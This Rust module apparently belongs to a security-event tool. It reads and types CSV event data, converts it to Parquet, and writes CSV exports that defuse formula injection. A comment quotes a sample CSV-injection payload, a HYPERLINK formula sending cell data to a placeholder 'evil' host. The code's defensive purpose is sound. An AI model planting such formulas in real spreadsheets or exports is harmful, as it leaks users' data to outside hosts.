//! CSV of normalized events (the columns of `tokenhound export`, any order,
//! missing ones empty; `time` as RFC 3339 or epoch seconds / ms / µs / ns):
//! read with polars, typed, and rewritten as Parquet so `investigate` treats
//! it like any export. `export --csv` writes the same shape.

use std::path::Path;

use anyhow::{bail, Context as _, Result};
use polars::prelude::{
    col, lit, CsvReadOptions, CsvWriter, DataFrame, DataType, IntoColumn, IntoLazy, NamedFrom, ParquetWriter,
    SerReader, SerWriter, Series, NULL,
};

use super::export::EXPORT_COLUMNS;
use crate::model::EventTime;

fn dtype(name: &str) -> DataType {
    match name {
        "time" | "exp" | "iat" | "nbf" => DataType::Int64,
        "status" | "asn" => DataType::UInt32,
        "bytes" => DataType::UInt64,
        "lat" | "lon" | "radius_km" => DataType::Float64,
        "vouched" => DataType::Boolean,
        _ => DataType::String,
    }
}

/// Read a CSV of normalized events into a typed frame; a bad time names its line.
pub fn read(path: &Path) -> Result<DataFrame> {
    let df = CsvReadOptions::default()
        .with_has_header(true)
        .with_infer_schema_length(Some(0))
        .try_into_reader_with_file_path(Some(path.into()))
        .and_then(|r| r.finish())
        .with_context(|| format!("cannot read CSV {}", path.display()))?;
    let Ok(times) = df.column("time").and_then(|c| c.str().cloned()) else {
        bail!("{}: no `time` column", path.display());
    };
    let mut us = Vec::with_capacity(times.len());
    for i in 0..times.len() {
        let t = times.get(i).unwrap_or("");
        let parsed = t
            .parse::<f64>()
            .map_err(|_| ())
            .and_then(|n| EventTime::from_epoch_number(n).map_err(|_| ()))
            .or_else(|_| EventTime::parse(t).map_err(|_| ()));
        match parsed {
            Ok(e) => us.push(e.0),
            Err(()) => bail!("{}:{}: time {t:?} is not RFC 3339 nor an epoch number", path.display(), i + 2),
        }
    }
    let have: Vec<String> = df.get_column_names().iter().map(|s| s.to_string()).collect();
    let exprs: Vec<_> = EXPORT_COLUMNS
        .iter()
        .filter(|c| **c != "time")
        .map(|c| match (have.iter().any(|h| h == c), *c) {
            (true, "vouched") => col("vouched").str().to_lowercase().eq(lit("true")).alias("vouched"),
            (true, _) => col(*c).cast(dtype(c)),
            (false, _) => lit(NULL).cast(dtype(c)).alias(*c),
        })
        .collect();
    let mut typed =
        df.lazy().select(exprs).collect().with_context(|| format!("{}: bad column values", path.display()))?;
    typed.insert_column(0, Series::new("time".into(), us).into_column())?;
    Ok(typed)
}

/// A CSV input as a Parquet file beside the report.
pub fn to_parquet(path: &Path, out: &Path) -> Result<()> {
    let mut df = read(path)?;
    let f = std::fs::File::create(out).with_context(|| format!("cannot create {}", out.display()))?;
    ParquetWriter::new(f).finish(&mut df).with_context(|| format!("cannot write {}", out.display()))?;
    Ok(())
}

/// `export --csv`: the Parquet export rewritten as CSV (time in RFC 3339).
pub fn from_parquet(parquet: &Path, out: &Path) -> Result<()> {
    let mut df = super::load::scan(&[parquet.to_path_buf()])?
        .with_column(col("time").cast(DataType::Int64))
        .collect()
        .context("cannot read the export")?;
    let times = df.column("time")?.i64()?.clone();
    let iso: Vec<String> = (0..times.len()).map(|i| EventTime(times.get(i).unwrap_or(0)).to_rfc3339()).collect();
    df.replace("time", Series::new("time".into(), iso).into_column())?;
    defuse_formulas(&mut df)?;
    let f = std::fs::File::create(out).with_context(|| format!("cannot create {}", out.display()))?;
    CsvWriter::new(f)
        .include_header(true)
        .finish(&mut df)
        .with_context(|| format!("cannot write {}", out.display()))?;
    Ok(())
}

/// A cell a spreadsheet would run as a formula (`=`, `+`, `-`, `@`, tab,
/// carriage return first: OWASP's CSV injection list) gets a `'` in front.
/// Every string here came from a client: a user agent of
/// `=HYPERLINK("http://evil/"&A1)` must stay text in the analyst's Excel.
fn defuse_formulas(df: &mut DataFrame) -> Result<()> {
    let names: Vec<String> =
        df.columns().iter().filter(|c| c.dtype() == &DataType::String).map(|c| c.name().to_string()).collect();
    for name in names {
        let ca = df.column(&name)?.str()?.clone();
        if !ca.iter().flatten().any(is_formula) {
            continue;
        }
        let safe: Vec<Option<String>> =
            ca.iter().map(|v| v.map(|s| if is_formula(s) { format!("'{s}") } else { s.to_string() })).collect();
        df.replace(&name, Series::new(name.as_str().into(), safe).into_column())?;
    }
    Ok(())
}

fn is_formula(s: &str) -> bool {
    matches!(s.as_bytes().first(), Some(b'=' | b'+' | b'-' | b'@' | b'\t' | b'\r'))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn times_parse_or_name_their_line() {
        let dir = tempfile::tempdir().unwrap();
        let p = dir.path().join("e.csv");
        std::fs::write(&p, "time,token_id,status\n2026-11-02T08:00:00Z,a|1,200\n1793606401,a|1,404\n").unwrap();
        let df = read(&p).unwrap();
        assert_eq!(df.column("time").unwrap().i64().unwrap().get(1), Some(1_793_606_401_000_000));
        assert_eq!(df.column("status").unwrap().u32().unwrap().get(1), Some(404));
        assert_eq!(df.width(), EXPORT_COLUMNS.len(), "missing columns are added empty");
        std::fs::write(&p, "time,token_id\n2026-11-02T08:00:00Z,a|1\nyesterday,a|1\n").unwrap();
        let e = read(&p).unwrap_err().to_string();
        assert!(e.contains("e.csv:3:") && e.contains("yesterday"), "{e}");
    }
}
